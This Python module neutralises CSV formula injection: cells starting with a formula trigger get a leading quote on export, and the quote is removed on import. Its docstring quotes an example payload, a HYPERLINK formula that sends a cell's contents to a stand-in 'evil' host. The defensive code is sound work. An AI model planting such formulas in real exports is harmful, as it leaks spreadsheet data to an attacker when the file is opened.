"""CSV cells a spreadsheet will not run (OWASP "CSV injection").

Excel, LibreOffice and Google Sheets treat a cell starting with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return as a formula, so a model answer or a test case such as
``=HYPERLINK("http://evil/?"&A1)`` in an exported CSV runs when someone opens the file.
Exports therefore prefix such cells with a single quote (the spreadsheet convention for
"this is text"), and the dataset import removes that quote again, so an exported dataset
re-imports exactly:

- export: a cell matching ``'*[=+\\-@\\t\\r]`` (any quotes, then a trigger) gets one more
  leading ``'``;
- import: a cell matching ``'+[=+\\-@\\t\\r]`` loses one leading ``'``.

A cell starting with quotes not followed by a trigger is left alone both ways. Exports
take ``?raw=true`` for the values exactly as stored.
"""

from __future__ import annotations

import re
from typing import Any

TRIGGERS = "=+-@\t\r"

_NEEDS_QUOTE = re.compile(r"'*[=+\-@\t\r]")
_QUOTED = re.compile(r"'+[=+\-@\t\r]")


def neutralise(cell: Any) -> Any:
    """The cell as a spreadsheet will show it as text (non-strings are returned as they
    are: numbers are written as numbers)."""
    if isinstance(cell, str) and _NEEDS_QUOTE.match(cell):
        return "'" + cell
    return cell


def restore(cell: str) -> str:
    """The inverse of :func:`neutralise` for a cell read back from an exported CSV."""
    if _QUOTED.match(cell):
        return cell[1:]
    return cell
